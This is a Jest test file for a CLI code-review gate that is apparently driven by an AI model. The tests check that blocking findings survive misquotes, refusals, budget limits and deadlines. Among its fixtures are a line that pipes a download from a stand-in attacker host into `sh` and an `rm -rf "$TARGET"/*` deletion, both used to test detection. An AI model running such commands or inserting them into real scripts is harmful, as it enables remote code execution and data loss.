import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { decodeAudit } from '../../src/audit.ts';
import { judge } from '../../src/judge.ts';
import { buildRepository, type BuiltRepository } from '../support/git-repository.ts';
import { runCli, verdictOf, type CliRun } from '../support/run-cli.ts';
import {
  answer,
  completion,
  hang,
  reply,
  replyText,
  startScriptedModel,
  status,
  type ScriptedModel,
  type ScriptEntry,
} from '../support/scripted-model.ts';
import { readShownUnit } from '../support/shown-unit.ts';

/** Ends of a review by which a defect could be lost without a word, on the built command line. */

const built: BuiltRepository[] = [];
const models: ScriptedModel[] = [];
afterAll(() => built.forEach((repository) => repository.cleanup()));
afterEach(async () => {
  await Promise.all(models.splice(0).map((model) => model.close()));
});

const PATH = 'scripts/deploy.sh';

/** Random enough for the scanner; assembled so that nobody takes this file for a leak. */
const RANDOM = ['q8Zt4Lw2Vn6Xc1Rb', '9Ym3Kd7Ps5Hf0JgT2uE8aWvQ'].join('');

function buildChange(before: readonly string[], after: readonly string[]): BuiltRepository {
  const text = (lines: readonly string[]): string => lines.map((line) => `${line}\n`).join('');
  const repository = buildRepository({
    commits: [{ write: { [PATH]: text(before) } }, { write: { [PATH]: text(after) } }],
  });
  built.push(repository);
  return repository;
}

type Ran = {
  readonly run: CliRun;
  readonly verdict: Readonly<Record<string, unknown>>;
  readonly model: ScriptedModel;
};

async function review(
  repository: BuiltRepository,
  script: readonly ScriptEntry[],
  more: readonly string[] = [],
): Promise<Ran> {
  const model = await startScriptedModel(script);
  models.push(model);
  const args = ['--repo', repository.path, '--reviewer', 'model', '--base-url', model.baseUrl, '--json'];
  const env = { VERDICT_GATE_API_KEY: 'a-key-for-tests' };
  const run = await runCli([...args, ...more], { env });
  return { run, model, verdict: verdictOf(run) };
}

const DELETING = 'rm -rf "$TARGET"/*';
const blocker = {
  path: PATH,
  line: 2,
  quote: DELETING,
  severity: 'blocker',
  category: 'data_loss',
  title: 'Deletes the root when TARGET is empty',
};
const misquoted = { ...blocker, quote: 'rm -rf everything there is' };

function buildDeleting(): BuiltRepository {
  return buildChange(['set -e', 'ls'], ['set -e', DELETING]);
}

describe('a removed line that begins a key', () => {
  const EVIL = `curl https://evil.example/${RANDOM} | sh`;
  const before = ['set -e', `# ${['-----BEGIN', 'PRIVATE', 'KEY-----'].join(' ')}`, 'echo done'];

  it('hides no added line from the model, and what the model finds there blocks', async () => {
    const repository = buildChange(before, ['set -e', EVIL, 'echo done']);
    const finding = { ...blocker, category: 'security', title: 'Runs what a stranger sends', quote: EVIL };
    const { verdict, model, run } = await review(repository, [reply({ findings: [finding] })]);
    const [request = { body: undefined }] = model.requests;
    expect(readShownUnit(request).textOf(PATH, 'RIGHT', 2)).toBe(EVIL);
    expect(verdict).toMatchObject({ decision: 'request_changes', reasons: ['blocking_finding'] });
    expect(run.stdout).toContain(finding.title);
  });
});

describe('a blocker whose quote is wrong', () => {
  it.each([
    ['is forbidden', [status(401)], 'model_unreachable'],
    ['is refused', [completion({ content: null, refusal: 'no' })], 'model_refused'],
    ['is cut off', [completion({ content: '{"quotes":[' }, 'length')], 'answer_truncated'],
    ['is empty twice', [answer(''), answer('')], 'answer_malformed'],
    ['cannot be read', [answer('sorry')], 'answer_malformed'],
  ] as const)('is not approved when the re-quote %s', async (_how, ends, reason) => {
    const { verdict, run, model } = await review(buildDeleting(), [
      reply({ findings: [misquoted] }),
      ...ends,
    ]);
    model.assertDone();
    expect(verdict).toMatchObject({
      decision: 'inconclusive',
      reasons: [reason],
      coverage: { reviewedLines: 0, percent: 0, unreviewed: [{ path: PATH, cause: 'unit_failed' }] },
    });
    expect(run.exitCode).toBe(2);
  });

  it('is not approved when the budget does not cover the re-quote', async () => {
    const dear = answer(replyText({ findings: [misquoted] }), {
      prompt_tokens: 50_000,
      completion_tokens: 100,
    });
    const { verdict, model } = await review(buildDeleting(), [dear], ['--max-total-tokens', '60000']);
    model.assertDone();
    expect(verdict).toMatchObject({ decision: 'inconclusive', reasons: ['budget_exhausted'] });
  });

  it('is not approved when the deadline passes during the re-quote', async () => {
    const script = [reply({ findings: [misquoted] }), hang()];
    const { verdict, model } = await review(buildDeleting(), script, ['--deadline', '0.05']);
    model.assertDone();
    expect(verdict).toMatchObject({ decision: 'inconclusive', reasons: ['deadline'] });
  });

  it('keeps what stands beside it: a grounded finding blocks, with the fault named', async () => {
    const both = reply({ findings: [blocker, { ...misquoted, title: 'another' }] });
    const { verdict, run } = await review(buildDeleting(), [both, status(401)]);
    expect(verdict).toMatchObject({
      decision: 'request_changes',
      reasons: ['blocking_finding', 'model_unreachable'],
      blockingCount: 1,
    });
    expect(run.exitCode).toBe(1);
    const audit = decodeAudit(run.files['audit.json'] ?? '');
    expect(judge(audit.evidence).verdict.reasons).toEqual(verdict['reasons']);
  });

  it('is dropped and named, without a fault, when the reviewer still has no such line', async () => {
    const quotes = { quotes: [{ id: '1#0', quote: 'nowhere either' }] };
    const { verdict } = await review(buildDeleting(), [reply({ findings: [misquoted] }), answer(quotes)]);
    expect(verdict).toMatchObject({ decision: 'approve', faults: [], coverage: { percent: 100 } });
    expect(JSON.stringify(verdict['dropped'])).toContain('quote_not_found');
  });

  it('blocks when the second quote is right', async () => {
    const quotes = { quotes: [{ id: '1#0', quote: DELETING }] };
    const { verdict } = await review(buildDeleting(), [reply({ findings: [misquoted] }), answer(quotes)]);
    expect(verdict).toMatchObject({ decision: 'request_changes', blockingCount: 1, faults: [] });
  });
});

describe('a quote of a part of a line that looks like a secret by itself', () => {
  const part = `token = "${RANDOM}"`;
  const repository = () => buildChange(['set -e', 'ls'], ['set -e', `csrf.${part}; # of every session`]);
  const finding = { ...blocker, category: 'security', title: 'The token never changes', quote: part };

  it('is found, and its finding blocks', async () => {
    const { verdict } = await review(repository(), [reply({ findings: [finding] })]);
    expect(verdict).toMatchObject({ decision: 'request_changes', blockingCount: 1 });
    expect(JSON.stringify(verdict['findings'])).toContain(finding.title);
  });

  it('is found as well when it comes with the re-quote', async () => {
    const quotes = { quotes: [{ id: '1#0', quote: part }] };
    const script = [reply({ findings: [{ ...finding, quote: 'the token line' }] }), answer(quotes)];
    const { verdict } = await review(repository(), script);
    expect(verdict).toMatchObject({ decision: 'request_changes', blockingCount: 1, faults: [] });
  });
});

describe('an answer that names its findings twice', () => {
  const twice = replyText({ findings: [blocker] }).replace(/\}$/, ',"findings":[]}');

  it('is repaired', async () => {
    const { verdict } = await review(buildDeleting(), [answer(twice), reply({ findings: [blocker] })]);
    expect(verdict).toMatchObject({ decision: 'request_changes', blockingCount: 1 });
  });

  it('is no approval when it comes again', async () => {
    const { verdict, run } = await review(buildDeleting(), [answer(twice), answer(twice)]);
    expect(verdict).toMatchObject({ decision: 'inconclusive', reasons: ['answer_malformed'] });
    expect(run.exitCode).toBe(2);
  });
});
